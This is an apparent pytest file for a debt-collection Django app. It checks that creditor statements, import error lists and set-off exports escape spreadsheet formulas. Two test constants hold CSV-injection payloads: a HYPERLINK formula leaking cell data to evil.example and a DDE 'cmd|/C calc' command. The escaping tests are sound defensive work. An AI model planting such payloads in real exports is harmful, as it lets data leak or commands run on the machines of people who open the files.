"""Finding 4 (High): no exported cell runs as a formula (OWASP CSV injection), in every
export — the creditor statement (CSV and XLSX), the import error list, set-off results."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal
from typing import Any

import openpyxl
import pytest
from django.test import Client

from qingqian.cases.models import Case
from qingqian.common.spreadsheet import FORMULA_STARTS, csv_text, escape_cell

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
HOSTILE_REF = "@SUM(1+1)*cmd|' /C calc'!A0"
AT = dt.datetime(2027, 2, 10, 4, tzinfo=dt.UTC)


@pytest.mark.parametrize("start", sorted(FORMULA_STARTS))
def test_every_formula_start_is_escaped(start: str) -> None:
    assert escape_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["-12.50", "+3", "100", "张三", "", None, Decimal("-1.00")])
def test_plain_values_are_left_alone(value: object) -> None:
    assert escape_cell(value) == value


def test_csv_text_quotes_every_cell() -> None:
    assert csv_text([["=1+1", "a,b", "-5"]]) == '"\'=1+1","a,b","-5"\r\n'


def _no_live_formula(cells: list[str]) -> None:
    for cell in cells:
        assert not (cell[:1] in FORMULA_STARTS and not cell.lstrip("+-").replace(".", "").isdigit())


@pytest.fixture
def hostile_statement(case: Any, users: Any) -> Any:
    from qingqian.payments.services import payment_record
    from qingqian.payments.statements import creditor_statement

    Case.objects.filter(pk=case.pk).update(debtor_name=HOSTILE_NAME)
    payment_record(
        case=case, amount=Decimal("100.00"), kind="bank_transfer", idempotency_key="fx-1",
        actor=users["lawyer"], received_at=AT, reference=HOSTILE_REF,
    )  # fmt: skip
    return creditor_statement(
        organisation=case.organisation, creditor=case.creditor,
        start=dt.date(2027, 2, 1), end=dt.date(2027, 2, 28),
    )  # fmt: skip


@pytest.mark.django_db
def test_statement_csv_escapes_user_text(hostile_statement: Any) -> None:
    from qingqian.payments.statements import statement_csv

    rows = list(csv.reader(io.StringIO(statement_csv(hostile_statement).decode("utf-8-sig"))))
    cells = [c for row in rows for c in row]
    assert "'" + HOSTILE_NAME in cells and "'" + HOSTILE_REF in cells
    _no_live_formula(cells)


@pytest.mark.django_db
def test_statement_xlsx_stores_user_text_as_text(hostile_statement: Any) -> None:
    from qingqian.payments.statements import statement_xlsx

    book = openpyxl.load_workbook(io.BytesIO(statement_xlsx(hostile_statement)))
    cells = [c for row in book.active.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    by_value = {c.value: c for c in cells}
    assert by_value[HOSTILE_NAME].quotePrefix and by_value[HOSTILE_NAME].data_type == "s"
    assert by_value[HOSTILE_REF].quotePrefix
    amounts = [c.value for c in cells if isinstance(c.value, int | float | Decimal)]
    assert amounts  # numbers stay numbers


@pytest.mark.django_db
def test_statement_download_through_the_web_is_escaped(
    hostile_statement: Any, users: Any, case: Any
) -> None:
    web = Client()
    web.force_login(users["admin"])
    for fmt in ("csv", "xlsx"):
        resp = web.get(
            f"/money/statement/?creditor={case.creditor.pk}&from=2027-02-01"
            f"&to=2027-02-28&format={fmt}"
        )
        assert "attachment" in resp["Content-Disposition"]
        body = resp.content
        if fmt == "csv":
            assert ("'" + HOSTILE_NAME).encode() in body.replace(b'""', b'"')
        else:
            book = openpyxl.load_workbook(io.BytesIO(body))
            assert not [c for r in book.active.iter_rows() for c in r if c.data_type == "f"]


def test_setoff_results_escape_obligation_ids() -> None:
    from qingqian.netting.csvio import setoffs_csv
    from qingqian.netting.solver import Obligation, solve

    result = solve(
        [
            Obligation("=1+1", "A", "B", Decimal("100.00")),
            Obligation("2", "B", "A", Decimal("30.00")),
        ]
    )
    lines = setoffs_csv(result).splitlines()
    assert lines[1].startswith("'=1+1,")


@pytest.mark.django_db
def test_import_error_list_is_escaped(users: Any, creditor: Any) -> None:
    from qingqian.cases.models import ImportJob

    job = ImportJob.objects.create(
        organisation=creditor.organisation, creditor=creditor, uploaded_by=users["intake_agent"],
        file="", filename="l.csv", status="failed",
        errors=[{"line": 2, "column": "=1+1", "code": "x", "message": "+SUM(A1)"}],
    )  # fmt: skip
    web = Client()
    web.force_login(users["intake_agent"])
    body = web.get(f"/imports/{job.pk}/errors.csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    assert rows[1] == ["2", "'=1+1", "'+SUM(A1)"]
